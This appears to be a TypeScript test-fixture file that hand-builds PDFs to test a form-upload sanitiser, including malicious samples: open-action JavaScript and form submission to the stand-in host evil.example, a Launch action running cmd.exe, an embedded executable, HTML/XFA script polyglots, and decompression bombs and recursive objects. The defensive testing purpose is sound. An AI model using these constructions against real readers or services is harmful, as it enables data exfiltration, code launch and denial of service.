import { deflateSync } from 'node:zlib';

/** PDF files by hand (ISO 32000-1, 7.5), plain ones and such as no program would write. */

export type PdfObject = string | Buffer;

/** @param objects from number 1 on; the first is the catalogue. @param trailer further entries. */
export function pdf(objects: readonly PdfObject[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let length = parts[0]?.length ?? 0;
  const places = objects.map((object, at) => {
    const part = Buffer.concat([
      Buffer.from(`${at + 1} 0 obj\n`),
      Buffer.from(object as string),
      Buffer.from('\nendobj\n'),
    ]);
    const place = length;
    parts.push(part);
    length += part.length;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer\n` +
        `<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

export const stream = (content: string | Buffer, entries = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${content.length} >>\nstream\n`),
    Buffer.from(content as string),
    Buffer.from('\nendstream'),
  ]);

export const deflated = (content: string | Buffer, entries = ''): Buffer =>
  stream(deflateSync(content), `/Filter /FlateDecode ${entries}`);

const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
const written = (text: string) => `BT /F1 18 Tf 72 740 Td (${text}) Tj ET`;

interface PageParts {
  /** Of the page's content. */
  content?: PdfObject;
  catalogue?: string;
  page?: string;
  size?: string;
  resources?: string;
  /** Object 6 and on. */
  more?: readonly PdfObject[];
  trailer?: string;
}

/** One page with a line of text. */
export const onePage = (text: string, parts: PageParts = {}): Buffer =>
  pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${parts.catalogue ?? ''} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [${parts.size ?? '0 0 595 842'}] /Contents 4 0 R ` +
        `/Resources << /Font << /F1 5 0 R >> ${parts.resources ?? ''} >> ${parts.page ?? ''} >>`,
      parts.content ?? stream(written(text)),
      helvetica,
      ...(parts.more ?? []),
    ],
    parts.trailer,
  );

/** So many pages of one line each. */
export const manyPages = (count: number): Buffer =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: count }, () => '3 0 R').join(' ')}] /Count ${count} >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(written('Samma sida')),
    helvetica,
  ]);

/** A form whose name, tick and signature are filled in: they are looks of fields (12.7), not content of the page. */
export const filledForm = (): Buffer =>
  onePage('Samtycke till bild', {
    catalogue:
      '/AcroForm << /Fields [6 0 R 8 0 R 10 0 R] /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >>',
    page: '/Annots [6 0 R 8 0 R 10 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Anna Andersson) /Rect [72 640 372 670] /F 4 /AP << /N 7 0 R >> >>',
      stream(
        '/Tx BMC q BT /F1 14 Tf 0 g 4 9 Td (Anna Andersson) Tj ET Q EMC',
        '/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /F1 5 0 R >> >>',
      ),
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (agreed) /V /Yes /AS /Yes /Rect [72 580 102 610] /F 4 /AP << /N << /Yes 9 0 R >> >> >>',
      stream('3 w 4 15 m 12 5 l 26 26 l S', '/Type /XObject /Subtype /Form /BBox [0 0 30 30]'),
      '<< /Type /Annot /Subtype /Widget /FT /Sig /T (signature) /Rect [72 480 372 560] /F 4 /AP << /N 11 0 R >> >>',
      stream(
        '0 0 0.6 RG 4 w 10 20 m 60 90 110 -40 160 40 c 200 90 240 0 290 50 c S',
        '/Type /XObject /Subtype /Form /BBox [0 0 300 80]',
      ),
    ],
  });

/** What acts on its reader, or carries something along. All show one page. */
export const actingPdfs: Record<string, () => Buffer> = {
  'JavaScript when it is opened': () =>
    onePage('Öppna mig', { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\);) >>' }),
  'JavaScript by name, and of a page': () =>
    onePage('Skript', {
      catalogue:
        '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\({cURL:"http://evil.example/"}\\)) >>] >> >>',
      page: '/AA << /O << /S /JavaScript /JS (app.launchURL\\("http://evil.example/"\\)) >> >>',
    }),
  'a program that is to be launched': () =>
    onePage('Program', { catalogue: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
  'a link, and a form that is sent away': () =>
    onePage('Formulär', {
      catalogue: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R 7 0 R]',
      more: [
        '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (s) /Rect [0 0 595 842] /A << /S /SubmitForm /F (http://evil.example/) >> >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://evil.example/) >> >>',
      ],
    }),
  'a file that is attached': () =>
    onePage('Bilaga', {
      catalogue: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>',
      more: [
        '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
        stream('MZ evil program', '/Type /EmbeddedFile'),
      ],
    }),
  'an XFA form': () =>
    onePage('XFA', {
      catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      more: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>evil</script></xdp:xdp>')],
    }),
  'a page of HTML inside': () => {
    const bytes = onePage('Sida');
    const html = Buffer.from('<!doctype html><script>alert("evil")</script>\n');
    // Behind the first line, where a comment may stand; the places of the objects are then wrong, and are found anew.
    return Buffer.concat([bytes.subarray(0, 9), Buffer.from('%'), html, bytes.subarray(9)]);
  },
  'a stranger’s name and times in its metadata': () =>
    onePage('Metadata', {
      trailer: '/Info 6 0 R',
      more: ['<< /Author (Dr Evil Andersson) /CreationDate (D:20261130120000Z) >>'],
    }),
};

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** What takes time or memory without a bound. */
export const demandingPdfs: Record<string, () => Buffer> = {
  'a page that is drawn by itself': () =>
    onePage('', {
      content: stream('/X Do '.repeat(50)),
      resources: '/XObject << /X 6 0 R >>',
      more: [
        stream(
          '/X Do '.repeat(50),
          '/Type /XObject /Subtype /Form /BBox [0 0 500 500] /Resources << /XObject << /X 6 0 R >> >>',
        ),
      ],
    }),
  'forms in forms, ten of each in ten': () =>
    onePage('', {
      content: stream('/X Do '.repeat(10)),
      resources: '/XObject << /X 6 0 R >>',
      more: Array.from({ length: 12 }, (_, at) =>
        stream(
          at === 11 ? '0 0 500 500 re f' : '/X Do '.repeat(10),
          `/Type /XObject /Subtype /Form /BBox [0 0 500 500] /Resources << /XObject << /X ${at === 11 ? 17 : at + 7} 0 R >> >>`,
        ),
      ),
    }),
  'pages that are their own children': () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  'a tree of pages 5000 deep': () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...Array.from({ length: 5000 }, (_, at) => `<< /Type /Pages /Kids [${at + 3} 0 R] /Count 1 >>`),
      '<< /Type /Page /MediaBox [0 0 595 842] >>',
    ]),
  'a million pages, it says': () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ]),
  'lists in lists, 100,000 deep': () => onePage('Djup', { page: `/Deep ${nested(100_000)}` }),
  'three million strokes in 130 kilobytes': () =>
    onePage('', { content: deflated('0 0 m 595 842 l S\n'.repeat(3_000_000)) }),
  'a picture of 900 megapixels in a megabyte': () =>
    onePage('', {
      content: stream('500 0 0 500 0 0 cm /I Do'),
      resources: '/XObject << /I 6 0 R >>',
      more: [
        deflated(
          Buffer.alloc(3750 * 30_000),
          '/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 1',
        ),
      ],
    }),
  'a picture that says it has 10^18 pixels': () =>
    onePage('', {
      content: stream('500 0 0 500 0 0 cm /I Do'),
      resources: '/XObject << /I 6 0 R >>',
      more: [
        stream(
          'x',
          '/Type /XObject /Subtype /Image /Width 999999999 /Height 999999999 /ColorSpace /DeviceRGB /BitsPerComponent 8',
        ),
      ],
    }),
  'a pattern of specks': () =>
    onePage('', {
      content: stream('/Pattern cs /P scn 0 0 595 842 re f'),
      resources: '/Pattern << /P 6 0 R >>',
      more: [
        stream(
          '0 0 .001 .001 re f',
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .001 .001] /XStep .001 /YStep .001 /Resources << >>',
        ),
      ],
    }),
  'a stream deflated five times': () =>
    onePage('', {
      content: (() => {
        let bytes: Buffer = Buffer.alloc(60_000_000, ' ');
        let times = 0;
        for (; times < 5; times += 1) bytes = deflateSync(bytes);
        return stream(bytes, `/Filter [${'/FlateDecode '.repeat(times)}]`);
      })(),
    }),
};

/** What is no form that anybody could read. */
export const unfitPdfs: Record<string, { make: () => Buffer; code: string }> = {
  'one that is locked': {
    make: () =>
      onePage('Låst', {
        trailer: `/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`,
      }),
    code: 'FORM_LOCKED',
  },
  'eleven pages': { make: () => manyPages(11), code: 'FORM_TOO_MANY_PAGES' },
  'no page at all': {
    make: () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    code: 'FORM_UNREADABLE',
  },
  'a page that is a strip': { make: () => onePage('', { size: '0 0 100000 1' }), code: 'FORM_UNREADABLE' },
  'a beginning and nothing else': { make: () => Buffer.from('%PDF-1.4 and no end'), code: 'FORM_UNREADABLE' },
  'a page of HTML that calls itself PDF': {
    make: () => Buffer.from('%PDF-1.4\n<!doctype html><script>alert(1)</script>\n%%EOF\n'),
    code: 'FORM_UNREADABLE',
  },
};

/** The JPEGs of a PDF of page images, in the order of its pages. */
export function picturesOf(bytes: Buffer): Buffer[] {
  const pictures: Buffer[] = [];
  for (let at = bytes.indexOf('/DCTDecode'); at >= 0; at = bytes.indexOf('/DCTDecode', at)) {
    const [, length = '0'] = /\/Length (\d+)/.exec(bytes.toString('latin1', at, at + 60)) ?? [];
    const from = bytes.indexOf('stream\n', at) + 'stream\n'.length;
    pictures.push(bytes.subarray(from, from + Number(length)));
    at = from + Number(length);
  }
  return pictures;
}

/** Whether a PDF consists of what a PDF of page images consists of, and of nothing else. */
export function isPagesAlone(bytes: Buffer): boolean {
  const pictures = picturesOf(bytes);
  let rest = bytes.toString('latin1');
  for (const picture of pictures) rest = rest.replace(picture.toString('latin1'), '');
  const names = new Set(rest.match(/\/[A-Za-z0-9]+/g));
  const known =
    'Catalog Pages Type Count Kids Page Parent MediaBox Contents Resources XObject P Length Subtype Image Width Height ColorSpace DeviceRGB BitsPerComponent Filter DCTDecode Size Root';
  return pictures.length > 0 && [...names].every((name) => known.split(' ').includes(name.slice(1)));
}
